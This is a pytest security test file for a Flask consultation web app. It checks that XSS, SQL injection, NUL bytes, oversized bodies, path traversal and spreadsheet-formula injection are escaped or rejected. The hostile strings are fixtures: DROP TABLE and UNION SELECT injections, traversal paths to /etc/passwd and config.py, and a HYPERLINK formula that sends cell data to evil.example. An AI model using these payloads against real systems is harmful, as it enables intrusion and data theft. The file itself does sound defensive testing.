"""Hostile input, everywhere: markup in every user-writable field comes out escaped on every page
that shows it; SQL in every filter is data; oversized, malformed and NUL-carrying requests are
4xx; no path leaves static/; and a sweep of every route with every known parameter set to each
hostile value collects every status code: none is a 5xx."""

import re
from collections import Counter
from pathlib import Path

import pytest
from flask import url_for
from flask_wtf import FlaskForm

from webapp.extensions import db
from webapp.models import AstrologerProfile, User, UserType
from webapp.services.consultations import lifecycle, ratings
from webapp.services.messaging import chat
from webapp.services.users import user_sync

from ..conftest import AuthActions
from .test_authorization_sweep import EMAILS, ROUTES, world  # noqa: F401  (world is a fixture)

XSS = "<script>alert('x')</script><img src=x onerror=alert(1)>"
ESCAPED = "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;"
SQLI = ("' OR '1'='1", "1; DROP TABLE users; --", "x' UNION SELECT password_hash FROM users --")
# Also valid words of the wrong kind: a wallet entry kind on the billing ledger and the reverse.
# A whole number past bigint (a page of it once reached PostgreSQL's OFFSET), and amounts in grouping.
HOSTILE = (
    *SQLI, XSS, "a\x00b", "9" * 5000, "10000000000000000000", "../../etc/passwd", "NaN", "-1", "1e309", "",
    "debit", "topup", "100,00",
)  # fmt: skip
WEBAPP = Path(__file__).resolve().parents[2] / "webapp"


def _parameter_names():
    """Every query or form name the app reads: from the source and from every form class."""
    names = set()
    for source in WEBAPP.rglob("*.py"):
        names |= set(re.findall(r"(?:args|form|params|source|data)\.(?:get|getlist)\(\"(\w+)\"", source.read_text()))
    import webapp.blueprints.admin.forms  # noqa: F401  (every form module, so their classes exist)
    import webapp.blueprints.auth.forms  # noqa: F401
    import webapp.blueprints.consultations.forms  # noqa: F401
    import webapp.blueprints.dashboard.forms  # noqa: F401
    import webapp.blueprints.wallet.forms  # noqa: F401

    stack = list(FlaskForm.__subclasses__())
    while stack:
        form = stack.pop()
        stack += form.__subclasses__()
        names |= {name for name in dir(form) if hasattr(getattr(form, name), "field_class")}
    return sorted(names - {"csrf_token"})


PARAMETERS = _parameter_names()


def test_the_parameter_list_is_the_apps():
    assert {"q", "min_price", "specialization", "identifier", "amount", "review", "about", "date_from"} <= set(
        PARAMETERS
    )


@pytest.fixture
def unlimited(app, monkeypatch):
    for name in [key for key in app.config if key.startswith("RATELIMIT_") and key.isupper()]:
        if isinstance(app.config[name], str) and "per" in app.config[name] or "/" in str(app.config[name]):
            monkeypatch.setitem(app.config, name, "100000 per minute")


def test_no_route_answers_5xx_to_any_hostile_value(app, client, world, unlimited):  # noqa: F811
    codes, failures = Counter(), []
    for actor in ("anonymous", "user", "astrologer", "admin"):
        for method, endpoint, _ in ROUTES:
            auth = AuthActions(client)
            auth.logout()
            if actor != "anonymous":
                auth.login(EMAILS[actor])
            token = auth.csrf_token()
            with app.test_request_context():
                arguments = {name: world[name] for name in app.url_map._rules_by_endpoint[endpoint][0].arguments}
                url = url_for(endpoint, **arguments)
            for value in HOSTILE:
                fields = dict.fromkeys(PARAMETERS, value)
                if method == "GET":
                    response = client.get(url, query_string=fields)
                else:
                    response = client.post(url, data={**fields, "csrf_token": token})
                codes[response.status_code] += 1
                if response.status_code >= 500:
                    failures.append(f"{actor} {method} {url} {value[:30]!r}: {response.status_code}")
    assert failures == [], f"{len(failures)} 5xx; codes seen: {dict(codes)}"
    assert sum(codes.values()) == 4 * len(ROUTES) * len(HOSTILE)


def test_nul_characters_are_a_clear_400(client):
    response = client.get("/astrologers", query_string={"q": "Sh\x00arma"})
    assert response.status_code == 400 and "NUL" in response.get_data(as_text=True)
    token = AuthActions(client).csrf_token()
    response = client.post(
        "/auth/login", data={"identifier": "a\x00@example.com", "password": "x", "csrf_token": token}
    )
    assert response.status_code == 400


@pytest.mark.parametrize("value", SQLI)
def test_sql_in_listing_filters_is_data(client, make_astrologer, value):
    make_astrologer(name="Acharya Sharma")
    assert "Acharya Sharma" in client.get("/astrologers").get_data(as_text=True)
    for name in ("q", "specialization", "language", "sort", "min_price", "max_price", "min_rating", "page"):
        response = client.get("/astrologers", query_string={name: value})
        assert response.status_code in (200, 400), name
        if name == "q":
            assert "Acharya Sharma" not in response.get_data(as_text=True)  # matched as text: nothing
    assert db.session.query(User).count() == 1  # and nothing was dropped


def test_sql_in_admin_filters_is_data(client, auth, make_user):
    make_user(email="admin@example.com", type=UserType.ADMIN)
    make_user(name="Plain Person", email="plain@example.com")
    auth.login("admin@example.com")
    for value in SQLI:
        page = client.get("/admin/users", query_string={"q": value})
        assert page.status_code == 200 and "Plain Person" not in page.get_data(as_text=True)
        for path in ("/admin/ledger/billing", "/admin/ledger/wallet"):
            fields = dict.fromkeys(("type", "status", "user", "session", "date_from", "date_to", "sort", "page"), value)
            assert client.get(path, query_string=fields).status_code in (200, 400)


def test_markup_in_every_user_writable_field_is_escaped_everywhere(client, consult, make_user, app):
    admin = make_user(email="admin@example.com", type=UserType.ADMIN)
    astrologer = consult.astrologer(email="astro@example.com", name=XSS, about=XSS)
    user = consult.user(email="user@example.com", name=XSS)
    session = consult.reply(consult.accept(consult.request(user, astrologer)))
    chat.send(session.id, user.id, "c-1", XSS)
    db.session.commit()  # each use case its own transaction, as in production
    lifecycle.end(session.id, by_user_id=user.id)
    ratings.rate(session.id, user.id, 4, XSS)
    user_sync.upsert({"external_id": "ext-xss", "name": XSS, "email": "xss@example.com", XSS: XSS})
    db.session.commit()
    synced = db.session.query(User).filter_by(external_id="ext-xss").one()
    assert db.session.get(AstrologerProfile, astrologer.astrologer_profile.id).about == XSS  # stored as written

    pages = {
        None: ["/astrologers", f"/astrologers/{astrologer.id}"],
        "user@example.com": [f"/consultations/{session.id}", "/consultations", "/wallet"],
        "astro@example.com": ["/dashboard", f"/consultations/{session.id}"],
        admin.email: ["/admin/users", f"/admin/users/{user.id}", f"/admin/users/{synced.id}", f"/admin/sessions/{session.id}"],
    }  # fmt: skip
    auth = AuthActions(client)
    for email, paths in pages.items():
        auth.logout()
        if email:
            auth.login(email)
        for path in paths:
            html = client.get(path).get_data(as_text=True)
            assert (
                XSS not in html
                and "<script>alert" not in html
                and "onerror=alert" not in html.replace("onerror=alert(1)&gt;", "")
            ), path
            assert ESCAPED in html, f"{path} shows the field escaped"


def test_oversized_and_malformed_bodies_are_4xx(client, app, monkeypatch):
    monkeypatch.setitem(app.config, "SYNC_SECRET", "hostile-secret")
    token = AuthActions(client).csrf_token()
    huge = {"identifier": "x" * (3 * 1024 * 1024), "password": "x", "csrf_token": token}
    assert client.post("/auth/login", data=huge).status_code == 413
    assert client.post("/api/v1/users/sync", data=b"{" * (3 * 1024 * 1024)).status_code == 413
    assert client.post("/payments/webhook/demo", data=b"{not json", content_type="application/json").status_code == 400
    broken = b'--XX\r\nContent-Disposition: form-data; name="identifier"\r\n\r\nabc'  # never closed
    response = client.post("/auth/login", data=broken, content_type="multipart/form-data; boundary=XX")
    assert 400 <= response.status_code < 500


@pytest.mark.parametrize(
    "path",
    [
        "/static/../webapp/config.py",
        "/static/..%2f..%2fwebapp%2fconfig.py",
        "/static/%2e%2e/%2e%2e/etc/passwd",
        "/static/vendor/../../config.py",
        "/static//etc/passwd",
        "/static/css/..%5c..%5cconfig.py",
    ],
)
def test_no_path_leaves_static(client, path):
    response = client.get(path, follow_redirects=True)  # "//" is first merged into "/" (308)
    assert response.status_code == 404
    assert b"SECRET_KEY" not in response.data and b"root:" not in response.data


def test_each_ledger_ignores_the_other_ledgers_kinds(client, auth, make_user, fund):
    # Found by sqlmap: type=debit on the billing ledger reached the enum column (500).
    fund(make_user(name="Paying Person", email="payer@example.com"), "200.00")
    make_user(email="admin@example.com", type=UserType.ADMIN)
    auth.login("admin@example.com")
    billing = client.get("/admin/ledger/billing?type=deposit")
    wallet_entries = client.get("/admin/ledger/wallet?type=topup")
    assert billing.status_code == wallet_entries.status_code == 200
    assert "Paying Person" in billing.get_data(as_text=True)  # a wallet ledger's type filters nothing here
    assert "Paying Person" in wallet_entries.get_data(as_text=True)  # the top-up's credit entry
    assert "Paying Person" in client.get("/admin/ledger/billing?type=credit").get_data(as_text=True)  # seed type
    assert "Paying Person" not in client.get("/admin/ledger/billing?type=debit").get_data(as_text=True)


def test_a_nul_in_a_path_names_nothing(client, make_user):
    make_user(email="nul-path@example.com")
    AuthActions(client).login("nul-path@example.com")
    assert client.get("/payments/demo/checkout/abc%00def").status_code == 404
    assert client.get("/astrologers/%00").status_code == 404


def test_a_formula_in_a_name_is_text_in_the_admins_csv(client, make_user, fund):
    import csv
    import io

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    fund(make_user(name=formula, email="formula@example.com"), "100.00")
    make_user(email="csv-admin@example.com", type=UserType.ADMIN)
    AuthActions(client).login("csv-admin@example.com")
    for ledger in ("billing", "wallet"):
        body = client.get(f"/admin/ledger/{ledger}?format=csv&user=formula").get_data(as_text=True)
        cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
        assert "'" + formula in cells and formula not in cells, ledger
